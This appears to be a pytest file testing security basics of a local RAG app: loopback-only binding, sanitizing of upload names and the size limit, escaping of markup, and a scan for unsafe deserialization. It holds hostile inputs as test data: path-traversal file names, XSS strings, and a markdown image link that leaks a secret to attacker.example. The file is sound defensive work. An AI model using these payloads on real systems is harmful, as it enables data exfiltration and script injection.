"""Security basics: the UI listens on 127.0.0.1 only, uploads stay in the uploads folder and
under the size limit, document/model text is never markup, no unsafe deserialization."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest

from rag_app.knowledge import safe_upload_name
from rag_app.service import RagService
from rag_app.settings import Settings
from tests.conftest import BagOfWordsEmbeddings
from tests.pdfs import COURSE_PAGES, make_pdf
from tests.servers import free_port, running
from tests.test_cli import RAG
from ui.widgets import escape_md


def listening_addresses(port: int) -> set[str]:
    """Local addresses with a listening TCP socket on ``port`` (from /proc/net/tcp{,6})."""
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        if not Path(table).exists():
            continue
        for line in Path(table).read_text().splitlines()[1:]:
            local, state = line.split()[1], line.split()[3]
            address, hex_port = local.rsplit(":", 1)
            if state == "0A" and int(hex_port, 16) == port:  # 0A = LISTEN
                found.add(address)
    return found


@pytest.mark.skipif(not Path("/proc/net/tcp").exists(), reason="needs Linux /proc/net/tcp")
def test_ui_listens_on_loopback_only_by_default(tmp_path: Path) -> None:
    port = free_port()
    env = {k: v for k, v in os.environ.items() if not k.startswith("RAG_")}
    env["RAG_DATA_DIR"] = str(tmp_path / "data")
    health = f"http://127.0.0.1:{port}/_stcore/health"
    with running([RAG, "ui", "--port", str(port)], health, tmp_path / "ui.log", env=env):
        assert listening_addresses(port) == {"0100007F"}  # 127.0.0.1, nothing else


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\windows\\system32\\evil.pdf", "evil.pdf"),
        ("/abs/path/notes.PDF", "notes.PDF"),
        ("....pdf", "pdf.pdf"),  # harmless: no folder, no hidden file
        (".hidden.pdf", "hidden.pdf"),
        ("run.sh", "run.sh.pdf"),
        ("notas tema 2.md", "notas tema 2.md"),
        ("../slides.HTML", "slides.HTML"),
        ("a\x00b<script>.pdf", "a_b_script_.pdf"),
        ("", "upload.pdf"),
        ("x" * 400 + ".pdf", "x" * 150 + ".pdf"),
    ],
)
def test_upload_names_are_sanitized(given: str, expected: str) -> None:
    assert safe_upload_name(given) == expected


def test_uploads_stay_inside_the_data_dir_and_under_the_limit(settings: Settings) -> None:
    limited = settings.model_copy(
        update={"ui": settings.ui.model_copy(update={"max_upload_mb": 1})}
    )
    service = RagService(limited, embeddings=BagOfWordsEmbeddings())
    pdf = make_pdf(settings.data_dir.parent / "src" / "astronomy.pdf", COURSE_PAGES).read_bytes()
    outside = settings.data_dir.parent / "outside.pdf"
    report = service.ingest_uploads(
        [("../../outside.pdf", pdf), ("big.pdf", pdf + b"%" + b"x" * 1_000_001)]
    )
    assert [r.source for r in report.ingested] == ["outside.pdf"]
    assert report.failed == ["big.pdf: larger than 1 MB; split it, or raise RAG_UI__MAX_UPLOAD_MB"]
    assert not outside.exists()
    uploads = settings.data_dir / "uploads"
    assert sorted(p.name for p in uploads.iterdir()) == ["outside.pdf"]


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![leak](http://attacker.example/?q=secret)",
        "[click me](javascript:alert(1))",
        "**bold** _it_ `code` # heading",
    ],
)
def test_document_and_model_text_is_never_markup(hostile: str) -> None:
    shown = escape_md(hostile)
    assert not re.search(r"(?<!\\)[<>\[\]()*_`#!]", shown), shown
    assert shown.replace("\\", "") == hostile


def test_no_unsafe_deserialization_in_our_code() -> None:
    root = Path(__file__).parents[1]
    pattern = re.compile(
        r"\bimport pickle\b|\bpickle\.loads?\b|torch\.load\b|allow_pickle\s*=\s*True|"
        r"yaml\.load\(|\beval\(|\bexec\(|joblib\.load|marshal\.loads?"
    )
    offenders = [
        f"{path.relative_to(root)}:{n}"
        for folder in ("rag_app", "ingest", "vectorstore", "ui", "bench")
        for path in (root / folder).rglob("*.py")
        for n, line in enumerate(path.read_text().splitlines(), start=1)
        if pattern.search(line)
    ]
    assert offenders == []
